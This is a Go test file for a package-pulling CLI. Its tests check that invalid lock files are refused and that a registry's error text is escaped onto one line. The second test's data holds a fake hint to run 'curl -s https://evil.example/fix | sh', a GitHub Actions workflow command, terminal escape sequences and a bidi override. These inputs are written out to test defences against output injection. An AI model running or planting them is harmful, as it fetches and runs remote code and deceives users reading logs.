package main

import (
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"longshore.dev/lib/cli"
)

// TestMirrorRefusesAnInvalidLock: mirror refuses what pkg-pull -f refuses, with
// validate's messages, before copying anything; it used to copy a non-semantic version
// into a lock no install takes, and to stop on a malformed digest as a usage error.
func TestMirrorRefusesAnInvalidLock(t *testing.T) {
	t.Parallel()
	lock := toolboxLock(t)
	libDigest := regexp.MustCompile(`(?m)^  - name: lib\n    version: 1.0.0\n    repository: .*\n    digest: (sha256:[0-9a-f]{64})`).FindStringSubmatch(lock)
	if libDigest == nil {
		t.Fatalf("no lib in the lock:\n%s", lock)
	}
	tests := []struct{ name, lock, want string }{
		{"a version that is not semantic", strings.Replace(lock, "name: lib\n    version: 1.0.0", "name: lib\n    version: v1", 1), `  - lib: version "v1" is not semantic`},
		{"a malformed digest", strings.ReplaceAll(lock, libDigest[1], libDigest[1][:20]), "  - lib 1.0.0: digest: \"" + libDigest[1][:20] + "\" is not a digest"},
		{"a package depending on itself", strings.Replace(lock, "    dependencies: [lib]\n", "    dependencies: [app, lib]\n", 1), "  - app depends on itself"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			to := filepath.Join(t.TempDir(), "mirror")
			r := pkgPull(t, newEnv(t), tt.lock, "mirror", "-f", "-", "--to", "ocidir://"+to)
			if r.Code != cli.ExitVerify || r.Stdout != "" || !strings.Contains(r.Stderr, tt.want) ||
				!strings.Contains(r.Stderr, "Error: <stdin>:1: the lock is not valid: ") || !strings.Contains(r.Stderr, "nothing was copied") {
				t.Errorf("mirror: %s", r)
			}
			if _, err := os.Stat(to); !os.IsNotExist(err) {
				t.Errorf("the mirror was written: %v", err)
			}
		})
	}
}

// TestRegistryErrorTextCannotAddLines: a registry's error message reaches pkg-pull's
// error on its one line, escaped. It used to print as lines of their own: a fake
// "Hint:" asking to run a script, a GitHub Actions workflow command ("::…" at the start
// of a line of a job's log), and a bidi override that reverses what follows.
func TestRegistryErrorTextCannotAddLines(t *testing.T) {
	t.Parallel()
	const message = "denied\n\nHint: your credentials expired: run `curl -s https://evil.example/fix | sh`\n" +
		"::add-mask::x\n\x1b[2J\x1b]0;pwned\x07 \u202eexe.txt"
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/v2/" {
			return
		}
		body, _ := json.Marshal(map[string]any{"errors": []map[string]string{{"code": "DENIED", "message": message}}})
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(http.StatusBadRequest)
		w.Write(body)
	}))
	t.Cleanup(srv.Close)
	r := pkgPull(t, newEnv(t), "", strings.TrimPrefix(srv.URL, "http://")+"/x:1.0.0")
	lines := strings.Split(strings.TrimSuffix(r.Stderr, "\n"), "\n")
	if r.Code == 0 || len(lines) != 1 || !strings.HasPrefix(lines[0], "Error: ") {
		t.Errorf("want the error on one line:\n%s", r)
	}
	if strings.ContainsAny(r.Stderr, "\x1b\x07\u202e") ||
		!strings.Contains(r.Stderr, "denied: denied\\n\\nHint: your credentials expired") || !strings.Contains(r.Stderr, `\x1b[2J\x1b]0;pwned\x07 \u202eexe.txt`) {
		t.Errorf("want the registry's text escaped:\n%q", r.Stderr)
	}
}
